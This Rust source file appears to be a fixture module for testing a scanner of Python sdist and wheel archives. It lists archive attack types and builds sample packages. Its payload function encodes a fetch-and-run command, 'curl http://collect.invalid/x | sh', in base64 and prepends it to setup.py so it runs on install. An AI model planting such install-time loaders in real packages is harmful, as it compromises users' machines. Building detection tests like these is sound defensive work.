//! One archive, what is wrong with it, and what must be said of it.

use base64::{Engine as _, engine::general_purpose::STANDARD};

use crate::craft::{self, Entry, Zip};

/// Where the payloads report to. Whoever reads one says so in a finding.
pub(crate) const HOST: &str = "collect.invalid";

/// A row of the catalogue of attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Row {
    ZipAmbiguity,
    ZipMethods,
    Overlap,
    Sizes,
    Bombs,
    Names,
    Links,
    TarAmbiguity,
    Streams,
    Polyglots,
    Wheels,
    Codecs,
    Text,
    Depth,
}

impl Row {
    pub(crate) const ALL: [Self; 14] = [
        Self::ZipAmbiguity,
        Self::ZipMethods,
        Self::Overlap,
        Self::Sizes,
        Self::Bombs,
        Self::Names,
        Self::Links,
        Self::TarAmbiguity,
        Self::Streams,
        Self::Polyglots,
        Self::Wheels,
        Self::Codecs,
        Self::Text,
        Self::Depth,
    ];

    pub(crate) const fn title(self) -> &'static str {
        match self {
            Self::ZipAmbiguity => "zip: two readings, hidden data, several ends",
            Self::ZipMethods => "zip: encrypted, rare and unknown methods",
            Self::Overlap => "zip: overlapping entries",
            Self::Sizes => "sizes that lie",
            Self::Bombs => "bombs, quines, nesting, floods of members",
            Self::Names => "names: traversal, collisions, deception",
            Self::Links => "links as aliases, chains, loops, devices",
            Self::TarAmbiguity => "tar: header, pax and GNU names disagree",
            Self::Streams => "after the end, checksums, second streams",
            Self::Polyglots => "polyglots and code in other files",
            Self::Wheels => "RECORD, dist-info, .pth, hooks",
            Self::Codecs => "coding cookies",
            Self::Text => "hidden text: bidi, homoglyphs, padding",
            Self::Depth => "depth, length and floods in sources",
        }
    }
}

/// What must be said.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Verdict {
    /// Odd, but honest: clear.
    Clear,
    /// Anything but clear, and the payload is in a finding.
    Seen,
    /// Anything but clear; there is no payload, or nobody could read it.
    Told,
}

#[derive(Clone, Debug)]
pub(crate) struct Case {
    pub(crate) row: Row,
    pub(crate) name: String,
    /// The name it is uploaded under.
    pub(crate) file: &'static str,
    pub(crate) bytes: Vec<u8>,
    pub(crate) verdict: Verdict,
    /// A rule that must speak, beside what the payload itself sets off; empty when any will do.
    pub(crate) rule: &'static str,
}

/// The archives of one row as they are made.
pub(crate) struct Cases {
    row: Row,
    pub(crate) all: Vec<Case>,
}

pub(crate) const SDIST: &str = "demo-1.0.tar.gz";
pub(crate) const SDIST_ZIP: &str = "demo-1.0.zip";
pub(crate) const WHEEL: &str = "demo-1.0-py3-none-any.whl";

impl Cases {
    pub(crate) const fn new(row: Row) -> Self {
        Self { row, all: Vec::new() }
    }

    fn add(
        &mut self,
        name: impl Into<String>,
        file: &'static str,
        bytes: Vec<u8>,
        verdict: Verdict,
        rule: &'static str,
    ) {
        self.all.push(Case { row: self.row, name: name.into(), file, bytes, verdict, rule });
    }

    pub(crate) fn clear(&mut self, name: impl Into<String>, file: &'static str, bytes: Vec<u8>) {
        self.add(name, file, bytes, Verdict::Clear, "");
    }

    pub(crate) fn seen(&mut self, name: impl Into<String>, file: &'static str, bytes: Vec<u8>, rule: &'static str) {
        self.add(name, file, bytes, Verdict::Seen, rule);
    }

    pub(crate) fn told(&mut self, name: impl Into<String>, file: &'static str, bytes: Vec<u8>, rule: &'static str) {
        self.add(name, file, bytes, Verdict::Told, rule);
    }
}

/// Python that decodes a command and runs it. Inert: its host does not exist.
pub(crate) fn payload() -> Vec<u8> {
    let code = format!("import os;os.system('curl http://{HOST}/x | sh')");
    format!("import base64\nexec(base64.b64decode('{}'))\n", STANDARD.encode(code)).into_bytes()
}

/// The same as one line without quotes inside, for places where little fits.
pub(crate) fn short_payload() -> Vec<u8> {
    format!("import os;os.system('curl http://{HOST}/x | sh')\n").into_bytes()
}

/// Python that does nothing.
pub(crate) const CLEAN: &[u8] = b"\"\"\"A demonstration.\"\"\"\n\nVERSION = \"1.0\"\n";
pub(crate) const SETUP: &[u8] = b"from setuptools import setup\n\nsetup(name=\"demo\", version=\"1.0\")\n";
pub(crate) const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demonstration\n\
    Home-page: https://demo.invalid\nAuthor: A Person\nAuthor-email: person@demo.invalid\nLicense: MIT\n\n\
    A package that shows nothing but itself, and says so in a few words.\n";
pub(crate) const WHEEL_FILE: &[u8] =
    b"Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n";

pub(crate) fn setup_with_payload() -> Vec<u8> {
    [&payload()[..], SETUP].concat()
}

/// The members of an sdist, `setup.py` as given.
pub(crate) fn sdist_parts(setup: &[u8]) -> Vec<Vec<u8>> {
    vec![
        craft::folder("demo-1.0/"),
        craft::file("demo-1.0/PKG-INFO", METADATA),
        craft::file("demo-1.0/setup.py", setup),
        craft::folder("demo-1.0/demo/"),
        craft::file("demo-1.0/demo/__init__.py", CLEAN),
    ]
}

/// An sdist with some more parts of a tar.
pub(crate) fn sdist_and(parts: &[Vec<u8>]) -> Vec<u8> {
    craft::tar_gz(&[sdist_parts(SETUP), parts.to_vec()].concat())
}

/// An sdist with some more files.
pub(crate) fn sdist_with(files: &[(&str, &[u8])]) -> Vec<u8> {
    let parts: Vec<Vec<u8>> = files.iter().map(|(name, data)| craft::file(&format!("demo-1.0/{name}"), data)).collect();
    sdist_and(&parts)
}

/// An sdist with that `setup.py`.
pub(crate) fn sdist_setup(setup: &[u8]) -> Vec<u8> {
    craft::tar_gz(&sdist_parts(setup))
}

/// `sha256=` as RECORD writes it.
pub(crate) fn record_hash(data: &[u8]) -> String {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    URL_SAFE_NO_PAD.encode(hex::decode(model::Digest::of(data).to_string()).unwrap())
}

pub(crate) fn record(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut text = String::new();
    for (name, data) in files {
        text += &format!("{name},sha256={},{}\n", record_hash(data), data.len());
    }
    text += "demo-1.0.dist-info/RECORD,,\n";
    text.into_bytes()
}

/// A wheel with a RECORD that agrees.
pub(crate) fn wheel_zip(files: &[(&str, &[u8])]) -> Zip {
    let mut all: Vec<(&str, &[u8])> = files.to_vec();
    if !files.iter().any(|(name, _)| name.ends_with(".dist-info/METADATA")) {
        all.push(("demo-1.0.dist-info/METADATA", METADATA));
    }
    all.push(("demo-1.0.dist-info/WHEEL", WHEEL_FILE));
    let record = record(&all);
    all.push(("demo-1.0.dist-info/RECORD", &record));
    Zip::of(all.iter().map(|(name, data)| Entry::deflated(name, data)).collect())
}

pub(crate) fn wheel() -> Zip {
    wheel_zip(&[("demo/__init__.py", CLEAN)])
}

pub(crate) fn sdist_zip() -> Zip {
    Zip::of(vec![
        Entry::stored("demo-1.0/", b""),
        Entry::deflated("demo-1.0/PKG-INFO", METADATA),
        Entry::deflated("demo-1.0/setup.py", SETUP),
        Entry::deflated("demo-1.0/demo/__init__.py", CLEAN),
    ])
}

/// A wheel and a zipped sdist: the archive, its upload name, and where code runs by itself.
pub(crate) fn both() -> [(&'static str, Zip, &'static str, &'static str); 2] {
    [("wheel", wheel(), WHEEL, "demo/__init__.py"), ("sdist", sdist_zip(), SDIST_ZIP, "demo-1.0/setup.py")]
}

/// Index of the entry with that name.
pub(crate) fn at(zip: &Zip, name: &str) -> usize {
    let named = |entry: &Entry| entry.central.as_ref().is_some_and(|head| head.name == name.as_bytes());
    zip.entries.iter().position(named).unwrap()
}
